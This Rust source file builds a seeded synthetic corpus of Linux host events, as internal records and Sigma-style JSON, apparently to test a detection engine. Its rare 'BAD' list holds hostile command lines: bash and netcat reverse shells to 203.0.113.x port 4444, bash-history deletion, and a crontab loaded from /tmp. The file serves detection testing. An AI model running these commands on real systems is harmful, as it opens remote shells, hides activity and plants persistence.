//! A fixed day of a small fleet: executions, files, connections, names and log-ins, as our records
//! and as JSON that other engines read. The same seed gives the same events on every machine.

use std::sync::Arc;

use brain::record::{Event, Host, HostId, events};
use serde_json::{Map, Value};
use wire::batch::{Batch, Clock, Lane, Position};
use wire::record::{
    Address, Connection, Dns, Exec, File, Login, Process, ProcessRef, connection_event,
    file_action, login_action,
};
use wire::text::StringTableBuilder;

use crate::generate::Random;

/// Commands of ordinary days: executable and arguments; `#` becomes a number.
const COMMANDS: &[(&str, &str)] = &[
    ("/usr/bin/bash", "bash -c cd /srv/app && make -j4 test-#"),
    ("/usr/bin/ls", "ls -la --color=auto /var/lib/app/data-#"),
    ("/usr/bin/git", "git -c protocol.version=2 fetch --prune origin feature/branch-#"),
    ("/usr/bin/python3.11", "python3 /opt/app/worker.py --queue jobs-# --log-level info"),
    ("/usr/lib/gcc/x86_64-linux-gnu/12/cc1", "cc1 -quiet -O2 -o /tmp/ccA#.s src/module_#.c"),
    ("/usr/bin/curl", "curl -sS -o /srv/cache/item-#.json https://api.example.com/v2/items/#"),
    ("/usr/bin/grep", "grep -rn --include=*.rs error#: src"),
    ("/usr/bin/find", "find /var/log/app -name *.log -mtime +# -delete"),
    ("/usr/bin/ssh", "ssh -o BatchMode=yes deploy@app-#.example.com uptime"),
    ("/usr/bin/systemctl", "systemctl is-active app@#.service"),
    ("/usr/bin/docker", "docker run --rm -v /srv/data:/data registry.example.com/app:1.#"),
    ("/usr/bin/node", "node --max-old-space-size=2048 server.js --port 3#"),
    ("/usr/bin/tar", "tar -czf /backup/app-#.tar.gz -C /srv app"),
    ("/usr/sbin/cron", "CRON -f"),
    ("/usr/bin/date", "date +%Y-%m-%dT%H:%M:%S.#"),
    ("/usr/bin/psql", "psql -h db-#.example.com -U app -c select 1"),
    ("/usr/bin/awk", "awk {print $#} /proc/net/dev"),
    ("/usr/bin/sed", "sed -i s/version=#/version=0/ /srv/app/config.ini"),
    ("/usr/bin/java", "java -Xmx4g -jar /opt/service/service-#.jar --spring.profiles.active=prod"),
    ("/usr/bin/apt-get", "apt-get install -y --no-install-recommends libfoo#"),
];

/// Commands of the days that are not.
const BAD: &[(&str, &str)] = &[
    ("/usr/bin/bash", "bash -i >& /dev/tcp/203.0.113.#/4444 0>&1"),
    ("/usr/bin/rm", "rm -f /home/app/.bash_history"),
    ("/usr/bin/nc", "nc -e /bin/sh 203.0.113.# 4444"),
    ("/usr/bin/base64", "base64 -d /tmp/x#"),
    ("/usr/bin/crontab", "crontab /tmp/evil-#"),
];

const FILES: &[&str] = &[
    "/srv/app/cache/entry-#.tmp",
    "/var/log/app/access-#.log",
    "/home/dev/.cache/build/obj-#.o",
    "/tmp/session-#",
    "/etc/app/conf.d/site-#.conf",
    "/var/lib/postgresql/15/main/base/#",
];

const NAMES: &[&str] = &[
    "api-#.example.com",
    "registry.example.com",
    "deb-#.mirror.example.org",
    "db-#.internal.example.com",
    "telemetry.vendor-#.example.net",
];

/// A log: product, category, service.
pub type Log = (&'static str, &'static str, &'static str);

/// One event for our engine and for others.
#[derive(Debug)]
pub struct Sample {
    /// Our record.
    pub record: Event,
    /// The same in the words of Sigma's taxonomy.
    pub json: Value,
    /// The log that it is from.
    pub log: Log,
}

/// Returns so many events.
pub fn corpus(count: usize) -> Vec<Sample> {
    let host = Arc::new(Host { id: HostId("h".into()), name: "h".into(), role: "host".into() });
    let mut random = Random::new(7);
    (0..count).map(|_| one(&mut random, &host)).collect()
}

fn numbered(text: &str, random: &mut Random) -> String {
    text.split('#').collect::<Vec<_>>().join(&random.below(100_000).to_string())
}

fn one(random: &mut Random, host: &Arc<Host>) -> Sample {
    let table = if random.below(500) == 0 { BAD } else { COMMANDS };
    let (exe, args) = table[random.below(table.len())];
    let args = numbered(args, random);
    let mut build = Build::new(exe, &args);
    let log = match random.below(100) {
        0..55 => build.exec(&args),
        55..75 => build.file(&numbered(FILES[random.below(FILES.len())], random)),
        75..85 => build.connection(random),
        85..95 => build.dns(&numbered(NAMES[random.below(NAMES.len())], random)),
        _ => build.login(&format!(
            "Failed password for invalid user admin from 198.51.100.{} port 4{} ssh2",
            random.below(250),
            random.below(9_000)
        )),
    };
    let Build { mut batch, strings, fields, .. } = build;
    batch.strings = strings.finish();
    let record = events(&batch, host).pop().unwrap_or_else(|| panic!("no record of {log:?}"));
    Sample { record, json: Value::Object(fields), log }
}

struct Build {
    batch: Batch,
    strings: StringTableBuilder,
    fields: Map<String, Value>,
}

impl Build {
    fn new(exe: &str, args: &str) -> Self {
        let position = Position { epoch: 1, lane: Lane::Bulk, seq: 1 };
        let batch = Batch::empty(position, Clock::default());
        let mut build = Self { batch, strings: StringTableBuilder::default(), fields: Map::new() };
        let parent = build.process("/usr/bin/bash", "-bash", 0);
        build.process(exe, args, parent);
        build.say("Image", exe);
        build
    }

    fn text(&mut self, text: &str) -> wire::text::StrId {
        // The table has room for millions of bytes, an event some hundreds.
        self.strings.add(text.as_bytes()).unwrap_or_default()
    }

    fn process(&mut self, exe: &str, args: &str, parent: u32) -> u32 {
        let args: String = args.split(' ').flat_map(|word| [word, "\0"]).collect();
        let process = Process {
            pid: 100 + parent,
            parent: ProcessRef(parent),
            exe: self.text(exe),
            comm: self.text(exe.rsplit('/').next().unwrap_or("")),
            args: self.text(&args),
            user: self.text("app"),
            cwd: self.text("/srv/app"),
            uid: 1000,
            euid: 1000,
            ..Process::default()
        };
        self.batch.processes.push(process);
        self.batch.processes.len() as u32
    }

    fn say(&mut self, name: &str, value: impl Into<Value>) {
        self.fields.insert(name.to_owned(), value.into());
    }

    fn exec(&mut self, args: &str) -> Log {
        self.batch.execs.push(Exec { process: ProcessRef(2), ..Exec::default() });
        self.say("CommandLine", args);
        self.say("User", "app");
        self.say("CurrentDirectory", "/srv/app");
        self.say("ProcessId", 101);
        self.say("ParentImage", "/usr/bin/bash");
        self.say("ParentCommandLine", "-bash");
        self.say("ParentUser", "app");
        self.say("ParentProcessId", 100);
        ("linux", "process_creation", "")
    }

    fn file(&mut self, path: &str) -> Log {
        let file = File {
            process: ProcessRef(2),
            action: file_action::CREATE,
            path: self.text(path),
            ..File::default()
        };
        self.batch.files.push(file);
        self.say("TargetFilename", path);
        ("linux", "file_event", "")
    }

    fn connection(&mut self, random: &mut Random) -> Log {
        let last = random.below(250) as u8 + 1;
        let address = |bytes: [u8; 4]| {
            let mut mapped = [0; 16];
            mapped[10..12].fill(0xff);
            mapped[12..].copy_from_slice(&bytes);
            Address(mapped)
        };
        self.batch.connections.push(Connection {
            process: ProcessRef(2),
            event: connection_event::CONNECTED,
            protocol: 6,
            local: address([10, 0, 0, 5]),
            local_port: 45_678,
            remote: address([203, 0, 113, last]),
            remote_port: 443,
            ..Connection::default()
        });
        self.say("SourceIp", "10.0.0.5");
        self.say("SourcePort", 45_678);
        self.say("DestinationIp", format!("203.0.113.{last}"));
        self.say("DestinationPort", 443);
        self.say("Initiated", "true");
        self.say("Protocol", "tcp");
        ("linux", "network_connection", "")
    }

    fn dns(&mut self, name: &str) -> Log {
        let name_id = self.text(name);
        self.batch.dns.push(Dns {
            process: ProcessRef(2),
            name: name_id,
            query_type: 1,
            ..Dns::default()
        });
        self.say("QueryName", name);
        ("linux", "dns_query", "")
    }

    fn login(&mut self, message: &str) -> Log {
        let login = Login {
            action: login_action::FAILED,
            service: self.text("sshd"),
            user: self.text("admin"),
            message: self.text(message),
            ..Login::default()
        };
        self.batch.logins.push(login);
        self.fields = Map::new();
        self.say("Message", message);
        self.say("User", "admin");
        ("linux", "", "sshd")
    }
}
